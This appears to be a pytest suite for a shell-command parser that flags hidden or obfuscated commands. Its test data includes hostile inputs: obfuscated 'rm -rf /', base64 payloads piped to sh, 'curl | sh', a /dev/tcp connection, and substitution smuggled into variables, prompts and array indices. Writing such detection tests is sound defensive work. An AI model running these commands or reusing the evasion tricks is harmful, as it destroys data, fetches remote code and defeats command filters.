"""Shell text to a tree: every command that could run, in every place, and nothing that was not seen counts as seen."""

from __future__ import annotations

import pytest

from engine.command.tree import Effect
from tests.shell_commands import command, facts, kinds, programs, seen, signs


@pytest.mark.parametrize(
    "text",
    [
        *(
            "ls; rm x",
            "ls && rm x",
            "ls || rm x",
            "ls | rm x",
            "ls & rm x",
            "ls\nrm x",
            "! rm x",
            "{ rm x; }",
            "(rm x)",
        ),
        *(
            "( (rm x) )",
            "((1)) && rm x",
            "time -p rm x",
            "coproc rm x",
            "coproc N { rm x; }",
            "f() { rm x; }",
            "function f { rm x; }",
        ),
        *(
            "if a; then rm x; fi",
            "if rm x; then a; fi",
            "if a; then b; elif c; then rm x; fi",
            "if a; then b; else rm x; fi",
        ),
        *(
            "while rm x; do a; done",
            "until a; do rm x; done",
            "for i in a b; do rm x; done",
            "for i in $(rm x); do a; done",
        ),
        *(
            "for ((i=$(rm x);;)); do a; done",
            "select i in a; do rm x; done",
            "case $(rm x) in a) ;; esac",
            "case a in $(rm x)) ;; esac",
        ),
        *(
            "case a in a) rm x;; esac",
            "case a in (a|b) c;& d) rm x; esac",
            "[[ -n $(rm x) ]]",
            "[[ a == @($(rm x)) ]]",
            "[[ a =~ (b| $(rm x)) ]]",
        ),
        *(
            "echo $(rm x)",
            "echo `rm x`",
            'echo "$(rm x)"',
            'echo "`rm x`"',
            "echo <(rm x)",
            "echo >(rm x)",
            "echo a<(rm x)b",
        ),
        *(
            "echo ${y:-$(rm x)}",
            'echo "${y:-$(rm x)}"',
            "echo ${y/$(rm x)/b}",
            "echo ${y:$(rm x)}",
            "echo ${a[$(rm x)]}",
            "echo ${ rm x; }",
        ),
        *(
            "echo $((1+$(rm x)))",
            "echo $((a[$(rm x)]))",
            "echo $[$(rm x)]",
            "(( $(rm x) ))",
            "a[$(rm x)]=1",
            "a=($(rm x))",
            "a=([$(rm x)]=b)",
        ),
        *(
            "X=$(rm x)",
            "X=$(rm x) true",
            "declare X=$(rm x)",
            "local a=($(rm x))",
            "echo @(a|$(rm x))",
            "cat > $(rm x)",
            "cat < <(rm x)",
        ),
        *(
            "cat <<E\n$(rm x)\nE",
            "cat <<-E\n\t`rm x`\n\tE",
            "cat <<E | tr a b\n${y:-$(rm x)}\nE",
            "cat <<< $(rm x)",
            "a() { b; } > $(rm x)",
        ),
        *(
            "echo $(echo $(echo $(rm x)))",
            "echo `echo \\`rm x\\``",
            'echo "$(echo "$(rm x)")"',
            "r\\\nm x",
            "echo $(case a in a) rm x;; esac)",
        ),
        *(
            "echo $((rm x) )",
            "echo $( (rm x))",
            "x=$(cat <<E\n$(rm x)\nE\n)",
            "cat <<E $(rm x)\nb\nE",
            "if a; then b; fi | while read l; do rm x; done",
        ),
    ],
)
def test_a_command_is_seen_wherever_it_stands(text: str) -> None:
    assert "rm" in programs(text)


@pytest.mark.parametrize(
    "spelt", ["r\\m", 'r""m', "$'\\x72m'", '"r"m', "$'\\162\\155'", "'rm'", "$'\\u0072m'", 'r$"m"', "/bin/rm", "\\rm"]
)
def test_a_quoted_name_is_the_name(spelt: str) -> None:
    assert kinds(f"{spelt} x") == ["delete_file"]


@pytest.mark.parametrize(
    "text",
    [
        *(
            "rm${IFS}-rf${IFS}/",
            "X=rm; $X -rf /",
            "${PATH:0:1}bin${PATH:0:1}rm /",
            "/bin/r? /",
            "/???/r[m] /",
            "{rm,-rf,/}",
            "~/x",
            "*",
        ),
        *(
            "$(echo rm) x",
            "`echo rm` x",
            "sudo $X",
            "env $X",
            "xargs $X",
            "timeout 1 $X",
            "eval $X",
            'eval "$X"',
            "bash -c $X",
            'sh -c "$X"',
        ),
        *(
            "curl x | sh",
            "xxd -r a | bash",
            "cat x | sh -s",
            "sh",
            "python3",
            "python3 -c 'x'",
            "perl -e x",
            "ruby -ne x",
            "node -pe x",
            "php -r x",
        ),
        *(
            "awk 'BEGIN{system(\"id\")}'",
            "awk '{print > \"f\"}' a",
            "awk '{print | \"sh\"}' a",
            "awk '\"id\" | getline'",
            "sed '1e id'",
            "sed 's/x/id/e' f",
        ),
        *(
            "sed 'w f' a",
            "sed -n 's/a/b/w f' a",
            "sudo --unknown-option rm x",
            "timeout --what 1 rm x",
            "echo ${x@P}",
            "base64 -d x | sh",
        ),
        *(
            "test -v 'a[$(id)]'",
            "printf -v 'a[$(id)]' x",
            "((rm x))",
            "ls() { rm x; }",
            "echo a | python3 -",
            "find . -exec sh -c 'x {}' \\;",
        ),
        *(
            "vim -c ':!id' f",
            "less +!id f",
            "gdb -ex 'shell id' a",
            "openssl x -engine /tmp/e.so",
            "emacs --eval x",
        ),
    ],
)
def test_what_nobody_can_see_is_not_complete(text: str) -> None:
    assert not command(text).complete


@pytest.mark.parametrize(
    "text",
    [
        *(
            "awk '{print $1}' f",
            "awk -F: '$3 > 5 {print}' f",
            "sed 's/a|b/c/g;2,3d' f",
            "sed -n '/a/,/b/p' f",
            "sed -i.bak 's/a/b/' f",
            "ls *.txt",
        ),
        *(
            "find . -name '*.py' | xargs grep -n x",
            "git log --oneline | head -3",
            "for f in *; do echo $f; done",
            "echo 'a; rm -rf /'",
            "# rm x",
        ),
        *(
            'git commit -m "rm -rf /"',
            "ls -la >/dev/null 2>&1",
            "f() { echo a; }; f",
            "cat <<'E'\n$(rm x)\nE",
            "echo a | sh -c 'cat'",
            "trap 'echo x' EXIT",
        ),
    ],
)
def test_what_is_plain_is_complete(text: str) -> None:
    assert command(text).complete
    assert "rm" not in programs(text)


@pytest.mark.parametrize(
    "text",
    [
        "(",
        ")",
        "a |",
        "if x",
        "'",
        '"',
        "$(",
        "`",
        "${",
        "a && && b",
        ";;",
        "f() b",
        "case a",
        "[[ ]]",
        "cat <<E\nx",
        "a=([)",
    ],
)
def test_what_is_no_shell_text_is_unknown_beside_what_stood_before_it(text: str) -> None:
    tree = command(text)
    assert not tree.complete
    assert tree.operations[-1].effect is Effect.UNKNOWN
    assert "syntax_error" in tree.features
    assert "rm" in programs(f"rm x\n{text}")


@pytest.mark.parametrize(
    "char", ["\r", "\x1b", "\u00a0", "\u200b", "\u202e", "\u2066", "\ufeff", "\u3000", "\u00ad", "\x7f", "\u2028"]
)
def test_a_character_that_nobody_sees_is_a_problem(char: str) -> None:
    tree = command(f"ls{char}x")
    assert not tree.complete
    assert [problem.code for problem in tree.problems] == ["control_character"]


@pytest.mark.parametrize(
    ("text", "code"),
    [
        (b"a\0b", "nul_byte"),
        (b"\xff", "not_utf8"),
        (b"#" * 1_048_577, "too_long"),
        ("\ud800", "not_utf8"),
        (b"$(" * 9_000, "too_deep"),
    ],
)
def test_what_nobody_may_follow_is_refused_with_its_code(text: str | bytes, code: str) -> None:
    tree = command(text)
    assert [problem.code for problem in tree.problems] == [code]
    assert tree.operations[-1].kind == "unknown"


def test_the_path_says_how_a_command_is_reached() -> None:
    operations = command("a | if b; then sudo timeout 1 rm $(c) & fi").operations
    paths = {facts(item).program: ">".join(item.via) for item in operations}
    assert paths["rm"] == "top>pipeline>conditional>background>wrapper:sudo>wrapper:timeout"
    assert paths["c"] == "top>pipeline>conditional>background>substitution"


def test_a_literal_script_on_standard_input_is_read() -> None:
    for text in (
        "echo 'rm x' | sh",
        "printf 'rm x' | bash -s",
        "bash <<E\nrm x\nE",
        "sh <<< 'rm x'",
        "cat <<E | sudo sh\nrm x\nE",
        "echo cm0geAo= | base64 -d | sh",
    ):
        assert programs(text)[-1] == "rm", text


def test_a_text_that_is_partly_known_is_looked_at_and_still_not_complete() -> None:
    tree = command('bash -c "rm -rf $HOME"')
    assert not tree.complete
    assert "whole_tree" in signs('bash -c "rm -rf $HOME"')


def test_sql_in_an_argument_is_listed_as_operations_of_sql() -> None:
    tree = command('sudo -u postgres psql -d app -c "DELETE FROM t; SELECT 1"')
    assert [(item.kind, item.via) for item in tree.operations[1:]] == [
        ("delete", ("top", "wrapper:sudo", "wrapper:psql", "top")),
        ("select", ("top", "wrapper:sudo", "wrapper:psql", "top")),
    ]
    assert [item.kind for item in command("echo 'DROP TABLE t' | psql").operations][-1] == "drop_table"
    assert "rm" in seen("psql -c '\\! rm x'")


def test_redirections_are_files_and_connections() -> None:
    tree = command("{ a; b; } > /etc/passwd; exec 3<>/dev/tcp/192.0.2.1/80; c 2>/dev/null")
    targets = [(target.type, target.name) for item in tree.operations for target in item.targets]
    assert targets == [("file", "/etc/passwd"), ("host", "192.0.2.1:80")]


def test_the_digest_is_of_the_protocol_and_the_text() -> None:
    assert command("ls").digest != command("ls ").digest


@pytest.mark.parametrize(
    "text",
    [
        "hash -p /bin/rm ls; ls x",
        "shopt -s expand_aliases; alias go=rm\ngo x",
        "alias mine='rm x'\nmine",
        "alias ls='rm x'",
        "PS4='$(rm x)'; set -x; :",
        "export PS1='`rm x`'",
        'PS0="$X" bash -i',
        "PS4='\\044(rm x)'; set -x; :",
        "PROMPT_COMMAND='rm x' bash -i -c :",
        "BASH_ENV=/tmp/x bash -c :",
        "export BASH_ENV=/tmp/x; bash -c :",
        "ENV=<(echo rm x) sh -i",
        "source <(echo rm x)",
        ". /dev/stdin",
        "printf 'rm x' > s; . ./s",
        "printf 'rm x' > s; bash s",
        "curl -o s http://192.0.2.1/; sh s",
        "tmux attach",
        "tmux a -t x",
        "tmux",
        "tmux new",
        "tmux respawn-p -k 'rm x'",
        "screen",
        "screen -r",
        "screen -S work",
        "screen -AdmS ls rm -rf /",
        "screen -S a -X stuff 'rm x'",
        "zellij attach x",
        "run-parts /etc/cron.daily",
        "echo $((a='$(rm x)'))",
        "echo \"$((a='`rm x`'))\"",
        "((a='$(rm x)'))",
        "for ((i='$(rm x)'; i<1; i++)); do :; done",
        "echo $[ '$(rm x)' ]",
        "echo $(($'\\x24(rm x)'))",
        "echo ${a['$(rm x)']}",
        "echo ${a:'$(rm x)'}",
        "echo ${a:0:$'\\x60rm x\\x60'}",
        "a['$(rm x)']=1",
        "a=(['$(rm x)']=1)",
        "declare a['$(rm x)']=1",
        "read a['$(rm x)'] <<< 1",
        "test -v 'a[1+$(rm x)]'",
        "declare 'a[ `rm x`]=1'",
    ],
)
def test_a_text_that_has_something_run_which_nobody_read_is_not_complete(text: str) -> None:
    assert not command(text).complete


@pytest.mark.parametrize(
    "text",
    [
        ". /dev/stdin <<< 'rm x'",
        "bash /dev/fd/0 <<< 'rm x'",
        "mapfile -C 'rm x;:' -c 1 a <<< y",
        "compgen -C 'rm x'",
        "start-stop-daemon -S -x /bin/rm",
        "tmux new-session 'rm x'",
        "screen -dm rm x",
        "screen -dmS ls rm -rf /",
        "tmux ls \\; run 'rm x'",
    ],
)
def test_a_text_that_another_program_or_builtin_runs_is_looked_into(text: str) -> None:
    assert "rm" in {(name or "").rpartition("/")[2] for name in seen(text)}


@pytest.mark.parametrize(
    "text",
    [
        "hash -r; ls",
        "PS1='\\u@\\h \\$ ' bash --version",
        "ENV=production npm test",
        "mapfile -t a < x",
        "alias",
        "tmux ls",
        "tmux kill-session -t x",
        "screen -ls",
        "screen -S x -X quit",
        ". ./lib.sh",
        "echo $((a['1']))",
        "echo ${a:1:'2'}",
        "sed 's/[a-z]*$(x)//' y",
        "grep '[0-9]' x'$(y)'",
        "awk '{ n[$1] += $(NF - 1) }' x",
    ],
)
def test_what_only_looks_like_it_is_complete(text: str) -> None:
    assert command(text).complete
